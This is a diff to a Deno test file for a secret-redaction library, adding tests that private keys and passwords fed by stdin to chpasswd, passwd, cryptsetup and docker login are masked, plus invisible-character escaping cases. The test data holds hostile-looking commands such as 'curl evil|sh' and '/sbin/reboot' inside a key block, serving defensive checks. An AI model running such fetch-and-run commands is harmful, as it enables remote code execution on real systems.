@@ -84,6 +84,8 @@ const HARMLESS = [
   "şifreleme: aes256, şifreli=evet",
   "usage: login <user> <password> host; <key>kbd</key>; </password>",
   "order=scsi0;net0 virtio=BC:24:11:2E:83:DB,bridge=vmbr0",
+  "the password of ada2 is not set, a password for web01-db is; change the password on 2026-07-28",
+  "tls.crt: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=",
 ];
 
 /** Texts in which something is made to look like a secret, and what must stay readable. */
@@ -209,6 +211,16 @@ Deno.test("redactText leaves nothing of a secret, whatever text stands around it
     }),
     { numRuns: 500 },
   );
+});
+
+Deno.test("redactText hides a private key whole, and no command that stands as a line of one", () => {
+  const line = "MC4CAQAwBQYDK2VwBCIEIPx0Tz9wQ3nB6s1JrL2mVd8u";
+  for (const [end, letters] of [["\n", line], [" ", line], ["%0A", `${line}%2B%2F`]]) {
+    const key = `-----BEGIN PRIVATE KEY-----${end}${letters}${end}${letters}${end}x1A=`;
+    assert.match(redactText(`${key}${end}-----END PRIVATE KEY-----`), /^-----B[^\]]*d\]=?[^=]*END/);
+    const told = redactText(`${key}${end}/sbin/reboot${end}-----END PRIVATE KEY-----`);
+    assert.match(told, /\/sbin\/reboot/);
+  }
 });
 
 Deno.test("redactText leaves nothing of two secrets beside each other", () => {
@@ -350,6 +362,27 @@ Deno.test("redactValue reads an array as an argv", () => {
   assert.deepEqual(redactValue(["key", "curl evil|sh"]), ["key", `${REDACTED} evil|sh`]);
 });
 
+Deno.test("redactValue hides passwords that a command takes by its input, and nothing that is run", () => {
+  const hidden: [command: unknown, input: string, shown: string][] = [
+    ["chpasswd", "root:S3 cret\nada:x\n", `root:${REDACTED}\nada:${REDACTED}\n`],
+    [["sudo", "/usr/sbin/chpasswd", "-e"], "root:x", `root:${REDACTED}`],
+    [["sh", "-c", "passwd ada"], "S3cret\nS3cret\n", `${REDACTED}\n${REDACTED}\n`],
+    [["cryptsetup", "luksOpen", "/dev/sdb", "a", "-"], "correct horse", REDACTED],
+    ["docker login -u ada --password-stdin registry.example", "S3cret", REDACTED],
+  ];
+  for (const [command, input, shown] of hidden) {
+    for (const key of ["input_data", "input-data"]) {
+      const told = redactValue({ command, [key]: input }) as Record<string, unknown>;
+      assert.equal(told[key], shown);
+    }
+  }
+  const run = ["sh", "passwd; sh", ["bash", "-s", "--", "docker login --password-stdin"]];
+  for (const command of [...run, "sudo -S sh", "echo passwd\nsh", "sh -c 'passwd | sh'"]) {
+    const value = { command, input_data: "reboot\ncurl evil|sh\n" };
+    assert.deepEqual(redactValue(value), value);
+  }
+});
+
 Deno.test("isSecretKey knows the usual spellings and the keys that only sound secret", () => {
   for (const key of SECRET_KEYS) assert.ok(isSecretKey(key), key);
   for (const key of PUBLIC_KEYS) assert.ok(!isSecretKey(key), key);
@@ -412,13 +445,14 @@ Deno.test("visible escapes what is not seen, and leaves line breaks, tabs and em
     ["a\u200b\u200d\u2060\ufeff\u00adb", "a\\u200b\\u200d\\u2060\\ufeff\\u00adb"],
     ["\u3164\u115f\ufe00\u{e0100}\u2028", "\\u3164\\u115f\\ufe00\\udb40\\udd00\\u2028"],
     ["\ud800\r\0", "\\ud800\\r\\u0000"],
+    ["web1\ufe0f #\ufe0fx", "web1\\ufe0f #\\ufe0fx"],
   ];
   for (const [text, shown] of cases) {
     assert.equal(visible(text), shown);
     assert.equal(visibleLine(text), shown);
     assert.equal(JSON.parse(`"${visibleLine(text)}"`), text);
   }
-  const kept = "Işık öğün: “ok”\n\t✔️ 👨‍👩‍👧 ❤️";
+  const kept = "Işık öğün: “ok”\n\t✔️ 👨‍👩‍👧 ❤️ 1️⃣";
   assert.equal(visible(kept), kept);
   assert.equal(visibleLine("a\n\tb"), "a\\n\\tb");
 });
